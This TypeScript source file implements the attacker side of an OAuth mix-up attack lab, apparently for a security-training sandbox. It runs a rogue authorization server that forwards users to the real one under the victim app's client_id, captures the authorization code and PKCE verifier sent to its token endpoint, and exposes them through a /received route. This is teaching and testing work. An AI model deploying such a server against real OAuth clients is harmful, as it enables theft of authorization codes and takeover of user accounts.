/**
 * The mix-up lab's attacker: a second authorization server, served by the sandbox under a path of its
 * own (`{issuer}/attacker`, catalog `lab_issuers`), that the lab's app also trusts (RFC 9700 §4.4.1).
 * It exists for the lab alone: it issues nothing, and none of the sandbox's rules or state are touched
 * by it. It does what the attack needs and no more:
 *
 * - a metadata document naming its own issuer and endpoints (RFC 8414 §2), without
 *   `authorization_response_iss_parameter_supported`, as a server predating RFC 9207 would;
 * - an authorization endpoint that sends the user on to the sandbox's, with the app's sandbox
 *   client_id in place of its own and every other parameter (state, PKCE challenge) untouched;
 * - a token endpoint that records what it receives (the sandbox's code, and the PKCE verifier with it)
 *   in the sandbox's store, and answers `invalid_grant`;
 * - `GET /received`: what its token endpoint recorded, for the attacker to use.
 */
import {Hono, type Handler} from 'hono';
import type {CatalogClient, LabIssuer} from './catalog';
import {parseParams, readFormParams, required, assertSingleValued} from './checks/params';
import type {Sandbox, SandboxEnv} from './context';
import {InvalidGrant, UnsupportedGrantType} from './errors';
import {backLinks} from './pages/back-links';
import {errorPage} from './pages/error';
import {defineRoute} from './routing';

/** One token request the attacker's token endpoint received, as it arrived. */
export interface ReceivedTokenRequest {
  received_at: string;
  client_id?: string;
  code: string;
  code_verifier?: string;
  redirect_uri?: string;
}

const RECEIVED_KEY = 'lab:mix-up:received';
/** The attacker keeps the newest requests for an hour: enough for a lab run, never a pile. */
const RECEIVED_LIMIT = 20;
const RECEIVED_TTL_SECONDS = 3600;

/** The attacker's server, built from the catalog's `lab_issuers` entry for the mix-up lab. */
export function mixUpAttacker(sandbox: Sandbox): Hono<SandboxEnv> {
  const attacker = sandbox.catalog.lab_issuers?.find((candidate) => candidate.lab === 'mix-up');
  if (!attacker) throw new Error('the catalog has no issuer for the mix-up lab');
  const app = new Hono<SandboxEnv>();
  const metadata = attackerMetadata(attacker);
  defineRoute(app, '/.well-known/openid-configuration', {GET: [(c) => c.json(metadata)]});
  defineRoute(app, '/.well-known/oauth-authorization-server', {GET: [(c) => c.json(metadata)]});
  defineRoute(app, '/authorize', {GET: [forwardToSandbox(sandbox, attacker)]});
  defineRoute(app, '/token', {POST: [recordTokenRequest(sandbox)]});
  defineRoute(app, '/received', {
    GET: [
      async (c) =>
        c.json({received: (await sandbox.store.get<ReceivedTokenRequest[]>(RECEIVED_KEY)) ?? []}, 200, {
          'Cache-Control': 'no-store',
        }),
    ],
  });
  return app;
}

/** RFC 8414 §2: the required fields, for the code flow with PKCE and a public client. */
function attackerMetadata(attacker: LabIssuer): Record<string, unknown> {
  return {
    issuer: attacker.issuer,
    authorization_endpoint: `${attacker.issuer}/authorize`,
    token_endpoint: `${attacker.issuer}/token`,
    response_types_supported: ['code'],
    grant_types_supported: ['authorization_code'],
    code_challenge_methods_supported: ['S256'],
    token_endpoint_auth_methods_supported: ['none'],
  };
}

/**
 * The attack's first move (RFC 9700 §4.4.1): the app sent the user here; the attacker sends them to the
 * sandbox's authorization endpoint with the app's client_id there. The sandbox sees an ordinary request
 * from `lab-trip-planner`, and will send its code to the same redirect URI.
 */
function forwardToSandbox(sandbox: Sandbox, attacker: LabIssuer): Handler<SandboxEnv> {
  return (c) => {
    let location: URL;
    try {
      const params = parseParams(new URL(c.req.url).searchParams);
      assertSingleValued(params);
      const registration = attacker.clients.find((client) => client.client_id === params.values.get('client_id'));
      const redirectUri = params.values.get('redirect_uri');
      // RFC 6749 §4.1.2.1: an unknown client or redirect URI is shown here, never redirected.
      if (!registration) throw new Error(`unknown client_id ${params.values.get('client_id') ?? '(none)'}`);
      if (redirectUri === undefined || !registration.redirect_uris.includes(redirectUri))
        throw new Error(`redirect_uri ${redirectUri ?? '(none)'} is not registered`);
      const victim = sandboxRegistration(sandbox, redirectUri);
      location = new URL(sandbox.endpoints.authorization);
      for (const [name, value] of params.values)
        location.searchParams.set(name, name === 'client_id' ? victim.client_id : value);
    } catch (error) {
      const description = error instanceof Error ? error.message : 'malformed request';
      return c.html(errorPage({error: 'invalid_request', description, back: backLinks(sandbox.siteUrl)}), 400);
    }
    return c.redirect(location.href, 302);
  };
}

/** The app's registration at the sandbox: the mix-up lab's client with the same redirect URI. */
function sandboxRegistration(sandbox: Sandbox, redirectUri: string): CatalogClient {
  const client = sandbox.catalog.clients.find(
    (candidate) => candidate.lab?.slug === 'mix-up' && candidate.redirect_uris.includes(redirectUri),
  );
  if (!client) throw new Error(`no mix-up lab client at the sandbox for ${redirectUri}`);
  return client;
}

/**
 * The attack's second move: the app, believing the user chose this server, redeems the sandbox's code
 * here. The attacker keeps the code and the verifier, and answers as a server that never issued that
 * code would (RFC 6749 §5.2 invalid_grant). Malformed requests get the errors RFC 6749 §5.2 names.
 */
function recordTokenRequest(sandbox: Sandbox): Handler<SandboxEnv> {
  return async (c) => {
    const params = await readFormParams(c);
    assertSingleValued(params);
    const grantType = required(params, 'grant_type');
    if (grantType !== 'authorization_code') throw new UnsupportedGrantType(`grant_type ${grantType} is not supported`);
    const received: ReceivedTokenRequest = {
      received_at: new Date(sandbox.now()).toISOString(),
      code: required(params, 'code'),
    };
    for (const name of ['client_id', 'code_verifier', 'redirect_uri'] as const) {
      const value = params.values.get(name);
      if (value !== undefined) received[name] = value;
    }
    await sandbox.store.update<ReceivedTokenRequest[]>(
      RECEIVED_KEY,
      (current) => [received, ...(current ?? [])].slice(0, RECEIVED_LIMIT),
      RECEIVED_TTL_SECONDS,
    );
    throw new InvalidGrant('the authorization code is invalid');
  };
}
